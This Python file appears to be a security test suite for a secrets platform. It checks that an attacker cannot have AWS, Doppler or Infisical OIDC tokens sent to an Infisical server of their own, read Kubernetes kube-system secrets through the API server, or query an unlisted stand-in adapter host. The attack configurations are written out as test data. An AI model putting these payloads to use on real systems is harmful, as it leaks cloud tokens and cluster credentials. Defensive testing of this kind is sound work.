"""Tokens of one's namespace sent to an Infisical or an adapter of one's own, and services asked in their names."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

from tenants.attempt import NOBODY, Verdict, attempt
from tenants.attempts.vaults import STS, allowing, server
from tenants.judging import applied

if TYPE_CHECKING:
    from tenants.stage import Stage

API_SERVER = "https://10.96.0.1"
CLOUDS = {"AWS": STS, "Doppler": "https://api.doppler.com", "Infisical": "https://app.infisical.com"}


def infisical(site: str, audience: str) -> dict[str, Any]:
    oidc = {"identityId": "any", "audience": audience}
    call = {"fn::open::infisical-login": {"siteUrl": site, "oidc": oidc}}
    return {"values": {"login": call, "environmentVariables": {"TOKEN": "${login.accessToken}"}}}


def adapter(url: str) -> dict[str, Any]:
    call = {"fn::open::external": {"url": url}}
    return {"values": {"adapter": call, "environmentVariables": {"READ": "${adapter.response.password}"}}}


def sent_to_own(stage: Stage, audience: str) -> Verdict:
    """To a host of the own, for which an administrator has allowed every token that is worth nothing elsewhere."""
    with server() as own, allowing(stage, roles=f"{own.url}/**", audiences="**", tokens="**", urls=own.url):
        verdict = applied(stage.attacker, stage.fresh(), infisical(own.url, audience))
        if own.asked:
            return Verdict(NOBODY, "the token was sent", good=False)
        is_told = any(reason in verdict.told for reason in ("TokenNotAllowed", "InvalidInputs"))
        return replace(verdict, good=verdict.good and is_told and audience in verdict.told)


@attempt("have the token for AWS sent to an Infisical of the own")
def token_for_aws(stage: Stage) -> Verdict:
    return sent_to_own(stage, CLOUDS["AWS"])


@attempt("have the token for Doppler sent to an Infisical of the own")
def token_for_doppler(stage: Stage) -> Verdict:
    return sent_to_own(stage, CLOUDS["Doppler"])


@attempt("have the token for Infisical's cloud sent to an Infisical of the own")
def token_for_infisical(stage: Stage) -> Verdict:
    return sent_to_own(stage, CLOUDS["Infisical"])


@attempt("ask the API server as an adapter, with a token for it")
def api_server(stage: Stage) -> Verdict:
    url = f"{API_SERVER}/api/v1/namespaces/kube-system/secrets"
    with allowing(stage, roles=f"{API_SERVER}/**", audiences=f"{API_SERVER}/**", tokens=f"{API_SERVER}/**"):
        verdict = applied(stage.attacker, stage.fresh(), adapter(url))
    return replace(verdict, good=verdict.good and "URLNotAllowed" in verdict.told)


@attempt("ask an adapter that the list of roles has not")
def unlisted_adapter(stage: Stage) -> Verdict:
    verdict = applied(stage.attacker, stage.fresh(), adapter("https://adapter.example.com/secrets"))
    return replace(verdict, good=verdict.good and "NotAllowed" in verdict.told)
